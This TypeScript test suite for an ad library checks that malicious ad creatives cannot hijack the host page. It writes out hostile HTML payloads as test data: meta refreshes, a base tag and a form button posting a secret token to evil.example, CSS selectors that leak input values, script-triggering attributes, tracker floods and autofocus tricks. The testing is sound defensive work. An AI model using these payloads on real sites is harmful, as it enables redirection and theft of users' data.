/**
 * What must not happen: that an ad's html acts on the page as a document's head does, without
 * script and under any policy.
 */
import * as assert from 'uvu/assert';
import { adPage, concluded, openAdPage, trackedAnswer, ZONE } from '../../support/ad-page';
import { assertNone } from '../../support/assert-list';
import type { Wire } from '../../support/builders';
import { diagnosticsOf } from '../../support/console-page';
import { chainAnswer, network } from '../../support/network-page';
import { suiteOnStage } from '../../support/stage';
import { NONCE, strictPolicy } from '../../support/strict-headers';

const { test, stage } = suiteOnStage('attacks by creatives');

const AD = '<div class="ad">An ad</div>';
const FILL = "<script>_an_adFill('custom')</script>";

/** What a head may hold, and an ad may not. */
const HEADS: [what: string, html: string][] = [
  ['a refresh', '<meta http-equiv="refresh" content="0;url=/gone.html">'],
  ['a refresh in capitals', '<META CONTENT="0;url=/gone.html" HTTP-EQUIV="ReFresh">'],
  ['a base', '<base href="https://evil.example/" target="_top">'],
  ['a title', '<title>You have won</title>'],
  ['a title in html in a drawing', '<svg><desc><title>You have won</title></desc></svg>'],
  [
    'links that are no stylesheets',
    '<link rel="canonical stylesheet" href="/c"><link rel=manifest href=/m>',
  ],
  ['a referrer policy', '<meta name="referrer" content="unsafe-url">'],
];

/** Where an answer may write them. */
const PLACES: [where: string, answer: (html: string) => { answer: Wire }][] = [
  ['its html', (html) => trackedAnswer({ html: `<div>${html}${AD}</div>` })],
  ['its wrapper', (html) => trackedAnswer({}, { htmlWrapperTop: html, htmlWrapperBottom: ' ' })],
  [
    'its tags',
    (html) => trackedAnswer({ trackingTags: `${html}<script>window.hasRun = 1</script>` }),
  ],
  [
    'a network',
    (html) =>
      chainAnswer([network('custom', { html: AD + FILL, headerTags: html, footerTags: html })]),
  ],
];

for (const [what, head] of HEADS) {
  test(`${what} in an ad › is left out of the page, wherever the answer has it`, async () => {
    const policy = strictPolicy(stage(), 'nonce');
    for (const [where, answer] of PLACES) {
      stage().adServer.setZone(ZONE, answer(head));
      const html = adPage({ elementId: 'slot' }).replaceAll('<script', `<script nonce="${NONCE}"`);
      const headers = { 'Content-Security-Policy': policy };
      const { page, settled } = await stage().open({
        html: html.replace(/<title>.*<\/title>/, ''),
        headers,
      });
      const url = page.url();
      await concluded(page);
      await settled();
      const found = await page.evaluate(() => ({
        base: document.baseURI,
        title: document.title,
        elements: [
          ...document.querySelectorAll(
            'base,title,meta:not([charset]),link:not([rel=modulepreload])',
          ),
        ]
          .map(({ outerHTML }) => outerHTML)
          .filter((text) => !/viewport|icon|preconnect/.test(text)),
        shown: document.querySelectorAll('.ad').length,
      }));
      assert.equal(
        [where, page.url(), found],
        [where, url, { base: url, title: '', elements: [], shown: 1 }],
      );
    }
  });
}

/** Html that needs no script of its own to use the page's. */
const GADGETS: [what: string, html: string][] = [
  ['a custom element of the page', '<x-menu class="ad">An ad</x-menu>'],
  [
    'attributes that libraries run',
    '<p class="ad" x-init="pwn()" hx-get="/x" hx-trigger="load" data-controller="pwn">An ad</p>',
  ],
  [
    'a button of the page’s form',
    '<button class="ad" form="own" formaction="https://evil.example/">An ad</button>',
  ],
  [
    'css that reads the page',
    '<style>#own [value^=s] { background: url(/leak) }</style><p class="ad">An ad</p>',
  ],
];

for (const [what, html] of GADGETS) {
  test(`${what}, with isolation: 'frame' › is in the frame, and nowhere in the page`, async () => {
    const style = '#own { background: url(/leak) }';
    const wrapper = { htmlWrapperTop: '<section id="around">', htmlWrapperBottom: '</section>' };
    const run = '<script>window.hasRun = 1</script>';
    stage().adServer.setZone(
      ZONE,
      trackedAnswer({ html, style, trackingTags: `<img src="{{ADS}}/im.gif">${run}` }, wrapper),
    );
    const head = `<script>customElements.define('x-menu', class extends HTMLElement { connectedCallback() { window.hasRun = 1; } })</script>`;
    const page = adPage({
      elementId: 'slot',
      head,
      html: '<form id="own"><input name="token" value="secret"></form><div id="slot"></div>',
      settings: { isolation: 'frame' },
    });
    const visit = await stage().open(page);
    await concluded(visit.page);
    await visit.page
      .frameLocator('iframe[title=Advertisement]:visible')
      .locator('#around .ad')
      .waitFor();
    await stage().waitForHit(({ path }) => path.startsWith('/im.gif'));
    await visit.settled();
    const found = await visit.page.evaluate(() => [
      document.querySelectorAll('.ad, #around').length,
      'hasRun' in window,
      [...document.querySelectorAll('style')].some(({ textContent }) =>
        /leak/.test(textContent ?? ''),
      ),
    ]);
    assert.equal(found, [0, false, false]);
    assertNone(visit.requests, (url) => /leak|evil|\/x$/.test(url));
    assert.is(stage().pixels(/im\.gif/).length, 1);
  });
}

test("tags of an ad that the page draws itself, with isolation: 'frame' › run in a frame", async () => {
  const trackingTags = '<img src="{{ADS}}/im.gif"><script>window.hasRun = 1</script>';
  stage().adServer.setZone(ZONE, trackedAnswer({ trackingTags }));
  const script =
    "unit.config.draw = { element: document.getElementById('slot'), show: function () {} };";
  const { page, settled } = await stage().open(
    adPage({ elementId: 'slot', settings: { isolation: 'frame' }, script }),
  );
  await stage().waitForHit(({ path }) => path.startsWith('/im.gif'));
  await settled();
  assert.is(await page.evaluate("'hasRun' in window"), false);
});

const MANY = Array.from({ length: 1_000 }, (_, n) => `{{ADS}}/im.gif?n=${n}`);
const IMAGES = MANY.map((url) => `<img src="${url}">`).join('');
const entry = (of: number) => ({
  ad: {
    html: `<i class="ad">${of}</i>`,
    trackingUrls: { impressions: MANY.map((url) => `${url}-${of}`) },
  },
});
const FLOODS: [what: string, most: number, answer: { answer: Wire }][] = [
  [
    'addresses in a list',
    64,
    trackedAnswer({ trackingTags: '', trackingUrls: { impressions: MANY } }),
  ],
  ['images in its tags', 64, trackedAnswer({ trackingTags: IMAGES })],
  [
    'images beside something else in its tags',
    64,
    trackedAnswer({ trackingTags: `<i></i>${IMAGES}` }),
  ],
  ['images in an element of its tags', 64, trackedAnswer({ trackingTags: `<p>${IMAGES}</p>` })],
  [
    'equal addresses',
    64,
    trackedAnswer({
      trackingTags: '',
      trackingUrls: { impressions: MANY.map(() => '{{ADS}}/im.gif') },
    }),
  ],
  [
    'addresses in each of 20 ads',
    256,
    trackedAnswer({}, { ads: Array.from({ length: 20 }, (_, n) => entry(n)) }),
  ],
  [
    'addresses of each of 20 networks',
    256,
    chainAnswer(
      Array.from({ length: 20 }, (_, n) => ({
        ...network('openx', { html: "<script>_an_adNoFill('openx')</script>" }),
        trackingUrls: { requests: MANY.map((url) => `${url}-${n}`) },
      })),
      { ad: { html: AD } },
    ),
  ],
];

for (const [what, most, answer] of FLOODS) {
  test(`1,000 ${what} › are at most ${most} trackers, and the publisher’s own; the console says so`, async () => {
    stage().adServer.setZone(ZONE, answer);
    const config = { impressionTags: '<img src="{{ADS}}/own.gif">' };
    const { page, settled } = await openAdPage(stage(), { config });
    await stage().waitForHit(({ path }) => path.startsWith('/own.gif'));
    await settled();
    assert.is(stage().pixels(/im\.gif/).length, most);
    const { findings } = await diagnosticsOf(page);
    assert.is(findings.filter(({ rule }) => rule === 'cut').length, 1);
  });
}

for (const [plain, named] of [
  [40, 40],
  [64, 1],
  [0, 65],
] as const) {
  test(`${plain} plain images and ${named} with a name in a frame’s tags › are one list of 64`, async () => {
    const imagesOf = (count: number, kind: string) =>
      MANY.slice(0, count)
        .map((url) => `<img ${kind} src="${url}-${kind}">`)
        .join('');
    const trackingTags = `<i></i>${imagesOf(named, 'name="a"')}${imagesOf(plain, 'alt')}`;
    stage().adServer.setZone(ZONE, trackedAnswer({ trackingTags }));
    const { settled } = await openAdPage(stage(), { settings: { isolation: 'frame' } });
    await stage().waitForHit(({ path }) => path.startsWith('/im.gif'));
    await settled();
    assert.is(stage().pixels(/im\.gif/).length, 64);
  });
}

for (const [what, head] of [
  ['without fetch', '<script>window.fetch = undefined;</script>'],
  [
    'whose policy allows no connection',
    '<meta http-equiv="Content-Security-Policy" content="connect-src \'none\'">',
  ],
] as const) {
  test(`hundreds of equal trackers on a page ${what} › use one frame at a time, and are all sent`, async () => {
    const ads = Array.from({ length: 4 }, () => ({
      ad: { html: AD, trackingUrls: { impressions: MANY.map(() => '{{ADS}}/im.gif') } },
    }));
    stage().adServer.setZone(ZONE, trackedAnswer({}, { ads: [...ads, entry(1)] }));
    const watch = `<script>window.most = 0; new MutationObserver(function () {
      most = Math.max(most, document.querySelectorAll('iframe').length);
    }).observe(document, { childList: true, subtree: true });</script>`;
    const { page } = await stage().open(adPage({ elementId: 'slot', head: watch + head }));
    await stage().waitForHit(() => stage().pixels(/im\.gif$/).length === 193);
    await page.waitForFunction('!document.querySelector("iframe")');
    assert.is(await page.evaluate('most'), 1);
  });
}

test('texts of a megabyte in a template › are cut', async () => {
  const long = 'long '.repeat(200_000);
  const texts = { title: long, summary: long, promotedBy: long, promotedByTag: long };
  stage().adServer.setZone(
    ZONE,
    trackedAnswer({ html: '', ...texts, ctaTitle: long, ctaUrl: '/cta' }),
  );
  const { page } = await openAdPage(stage());
  const html = await page.innerHTML('.adsnative-native');
  assert.ok(html.length < 50_000, `${html.length} characters`);
});

for (const [what, html] of [
  ['a field', '<div class="ad"><input autofocus></div>'],
  ['the ad itself, which may be written in', '<div class="ad" contenteditable AutoFocus>Ad</div>'],
  ['a button of an open dialog', `${AD}<dialog open><button autofocus>OK</button></dialog>`],
] as const) {
  test(`autofocus on ${what} › takes no focus, and the page stays where it is`, async () => {
    const far = '<div style="height: 3000px"></div><div id="slot"></div>';
    const { page, settled } = await openAdPage(stage(), { ad: { html }, html: far });
    await settled();
    assert.is(await page.locator('.ad').count(), 1);
    assert.equal(await page.evaluate('[document.activeElement.localName, scrollY]'), ['body', 0]);
  });
}

test('a stylesheet, and the name of a drawing › stay', async () => {
  const html = `<div class="ad"><link rel="StyleSheet" href="/s.css"><svg><title>A cup</title></svg></div>`;
  stage().setPage('/s.css', '');
  stage().adServer.setZone(ZONE, trackedAnswer({ html }));
  const { page } = await openAdPage(stage());
  assert.is(await page.locator('.ad link, .ad svg title').count(), 2);
});
